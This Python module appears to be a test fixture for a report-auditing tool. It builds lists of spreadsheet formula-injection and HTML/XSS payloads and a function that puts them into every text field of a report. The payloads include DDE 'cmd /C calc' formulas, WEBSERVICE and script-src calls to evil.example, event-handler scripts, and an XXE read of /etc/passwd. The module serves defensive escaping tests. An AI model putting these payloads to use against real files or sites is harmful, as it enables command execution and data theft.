"""What an enemy writes into a spend file, and a Report in which every text that can come from data is such a thing."""

from __future__ import annotations

from collections.abc import Iterator, Sequence

from cwbaudit.report.model import Part, Report

_CALLS = (
    "1+1", 'HYPERLINK("http://evil.example","x")', "cmd|' /C calc'!A0", 'WEBSERVICE("http://evil.example")', "SUM(1)",
    'IMPORTXML("http://evil.example","//a")', "DDE(\"cmd\";\"/C calc\";\"x\")", "A1", "-2+3", "@SUM(1)",
)  # fmt: skip
SPREADSHEET = (
    *(f"{sign}{call}" for sign in "=+-@" for call in _CALLS),
    "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "{=1+1}", "'=1+1", '"=1+1"', "%=1+1", "|=1+1", ";=1+1",
    "http://evil.example/", "mailto:a@evil.example", "internal:Cover!A1", "external:c:\\x.xlsx", "file:///etc/passwd", "ftp://evil.example/",
)  # fmt: skip
"""Sixty that a spreadsheet program would calculate, call or make a link of."""

_SCRIPT = "window.__pwned=1"
_EVENTS = ("onerror", "onload", "onfocus", "onclick", "onmouseover", "onbegin", "ontoggle", "onanimationstart", "onpointerenter", "onwheel")
_TAGS = (
    "img src=x",
    "svg",
    "body",
    "iframe src=x",
    "video src=x",
    "details open",
    "input autofocus",
    "math",
    "object data=x",
    "embed src=x",
)
_ELEMENTS = (
    f"<script>{_SCRIPT}</script>", "<script src=//evil.example/x.js></script>", f"<ScRiPt>{_SCRIPT}</sCrIpT>", f"<script\n>{_SCRIPT}</script\n>",
    "<style>*{display:none}</style>", "<link rel=stylesheet href=//evil.example>", "<base href=//evil.example/>", "<form action=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<a href=javascript:window.__pwned=1>x</a>", "<iframe srcdoc='<p>x'></iframe>",
    f"<svg><script>{_SCRIPT}</script></svg>", "<svg><foreignObject><p>x</p></foreignObject></svg>", "<template><p>x</template>", "<plaintext>",
    f"<noscript><p title=\"</noscript><img src=x onerror={_SCRIPT}>\">", "<textarea>", "<select><option>", "<table><td>", "<frameset>",
)  # fmt: skip
_ESCAPES = (
    "</title><h1>x", "</desc><rect/>", "</text><a/>", "</td></tr></table><h1>x", "</script><h1>x", "</style><h1>x", "</option></select><h1>x",
    "</summary></details><h1>x", "</caption><h1>x", "</svg><h1>x", "--><h1>x", "<!--", "<![CDATA[<h1>x]]>", "]]><h1>x", "<?xml version='1.0'?>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;", "{{7*7}}", "{% raw %}", "${7*7}", "<%= 7*7 %>", '" autofocus x="', "' x='",
    '"><h1>x', "'><h1>x", "&lt;script&gt;", "&#60;script&#62;", "&#x3C;h1&#x3E;x", "\\u003ch1\\u003e", "%3Ch1%3Ex", "+ADw-h1+AD4-x",
)  # fmt: skip
MARKUP = (
    *(f"<{tag} {event}={_SCRIPT}>" for tag, event in zip(_TAGS, _EVENTS, strict=True)),
    *(f'"{event}="{_SCRIPT}"' for event in _EVENTS),
    *(f"javascript:{_SCRIPT}//{n}" for n in range(10)),
    *_ELEMENTS, *_ESCAPES,
)  # fmt: skip
"""Eighty that a browser would run, fetch or take for an element."""

# What the program itself wrote and reads again, and what only looks up an outline.
_OURS = frozenset(
    [
        "locality",
        "influence",
        "schema_version",
        "severity",
        "code",
        "local_codes",
        "regional_codes",
        "shown",
        "order",
        "supplier_id",
        "kind",
        "ground",
        "quarter",
        "sha256",
    ]
)


def poisoned(report: Report, payloads: Sequence[str], turn: int, most: int = 3) -> Report:
    """The report with at most so many of everything, and in every text the next payload, beginning with the one at `turn`."""
    made = _replaced("", report, _from(payloads, turn), most)
    assert isinstance(made, Report)
    return made


def _from(payloads: Sequence[str], turn: int) -> Iterator[str]:
    while True:
        yield payloads[turn % len(payloads)]
        turn += 1


def _replaced(name: str, value: object, payloads: Iterator[str], most: int) -> object:
    if isinstance(value, Part):
        return value.model_copy(update={key: _replaced(key, each, payloads, most) for key, each in value})
    if isinstance(value, list):
        return [_replaced(name, each, payloads, most) for each in value[:most]]
    if isinstance(value, dict):
        return {next(payloads): next(payloads) for _ in list(value)[:most]}
    return next(payloads) if isinstance(value, str) and value and name not in _OURS else value
